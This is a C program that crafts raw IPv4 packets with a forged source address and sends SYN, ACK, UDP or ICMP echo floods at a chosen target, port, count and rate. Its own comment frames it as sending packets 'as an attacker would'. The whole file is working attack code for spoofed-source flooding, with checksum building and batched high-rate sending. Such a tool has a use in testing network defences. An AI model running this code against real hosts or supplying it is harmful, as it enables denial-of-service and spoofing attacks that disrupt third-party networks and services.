/* Sends IPv4 packets whose source is what one likes, as an attacker would.
 *
 *	raw syn|ack|udp|icmp SOURCE TARGET PORT COUNT [PER_SECOND]
 *
 * Prints how many the kernel took. Root (or a user namespace's).
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, HEADERS = sizeof(struct iphdr) + sizeof(struct tcphdr) };

static uint32_t add(uint32_t sum, const void *p, size_t n)
{
	const uint8_t *b = p;

	for (size_t i = 0; i < n; i++)
		sum += i & 1 ? b[i] : (uint32_t)b[i] << 8;
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static uint16_t check(const struct iphdr *ip, const void *l4, size_t n)
{
	uint32_t sum = add(0, &ip->saddr, 8);

	return fold(add(sum + ip->protocol + (uint32_t)n, l4, n));
}

static size_t tcp(uint8_t *at, const struct iphdr *ip, uint16_t port,
		  unsigned i, int syn)
{
	struct tcphdr h = {.source = htons((uint16_t)(1024 + i % 60000)),
			   .dest = htons(port), .seq = htonl(i), .doff = 5,
			   .syn = syn & 1, .ack = !syn & 1,
			   .window = htons(1024)};

	h.check = check(ip, &h, sizeof(h));
	memcpy(at, &h, sizeof(h));
	return sizeof(h);
}

static size_t udp(uint8_t *at, const struct iphdr *ip, uint16_t port,
		  unsigned i)
{
	struct udphdr h = {.source = htons((uint16_t)(1024 + i % 60000)),
			   .dest = htons(port), .len = htons(sizeof(h))};

	h.check = check(ip, &h, sizeof(h));
	memcpy(at, &h, sizeof(h));
	return sizeof(h);
}

static size_t build(uint8_t *at, const char *kind, const struct iphdr *head,
		    uint16_t port, unsigned i)
{
	static const uint8_t echo[8] = {8, 0, 0xf7, 0xff};
	uint8_t *l4 = at + sizeof(*head);
	struct iphdr ip = *head;
	size_t n = sizeof(echo);

	ip.protocol = kind[0] == 'u' ? IPPROTO_UDP : kind[0] == 'i' ?
		      IPPROTO_ICMP : IPPROTO_TCP;
	if (ip.protocol == IPPROTO_UDP)
		n = udp(l4, &ip, port, i);
	else if (ip.protocol == IPPROTO_TCP)
		n = tcp(l4, &ip, port, i, kind[0] == 's');
	else
		memcpy(l4, echo, n);
	memcpy(at, &ip, sizeof(ip));
	return sizeof(ip) + n;
}

static void pace(const struct timespec *began, unsigned long sent,
		 unsigned long rate)
{
	unsigned long long ns = (unsigned long long)sent * 1000000000 / rate +
				(unsigned long long)began->tv_nsec;
	struct timespec due = {.tv_sec = began->tv_sec +
					 (time_t)(ns / 1000000000),
			       .tv_nsec = (long)(ns % 1000000000)};

	(void)clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &due, NULL);
}

int main(int argc, char **argv)
{
	static uint8_t buf[BATCH][HEADERS];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct iphdr head = {.version = 4, .ihl = 5, .ttl = 64};
	struct sockaddr_in to = {.sin_family = AF_INET};
	unsigned long count, rate = 0, sent = 0, taken = 0;
	struct timespec began;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (argc < 6 || fd < 0 || inet_pton(AF_INET, argv[2], &head.saddr) != 1 ||
	    inet_pton(AF_INET, argv[3], &head.daddr) != 1) {
		perror("raw");
		return 2;
	}
	to.sin_addr.s_addr = head.daddr;
	count = strtoul(argv[5], NULL, 10);
	if (argc > 6)
		rate = strtoul(argv[6], NULL, 10);
	(void)clock_gettime(CLOCK_MONOTONIC, &began);
	while (sent < count) {
		unsigned n = 0;
		int r;

		for (; n < (rate ? 8 : BATCH) && sent < count; n++, sent++) {
			iov[n].iov_base = buf[n];
			iov[n].iov_len = build(buf[n], argv[1], &head,
					       (uint16_t)atoi(argv[4]),
					       (unsigned)sent);
			msgs[n] = (struct mmsghdr){.msg_hdr = {
				.msg_name = &to, .msg_namelen = sizeof(to),
				.msg_iov = &iov[n], .msg_iovlen = 1}};
		}
		r = sendmmsg(fd, msgs, n, 0);
		taken += r > 0 ? (unsigned long)r : 0;
		if (rate)
			pace(&began, sent, rate);
	}
	(void)printf("%lu\n", taken);
	return 0;
}
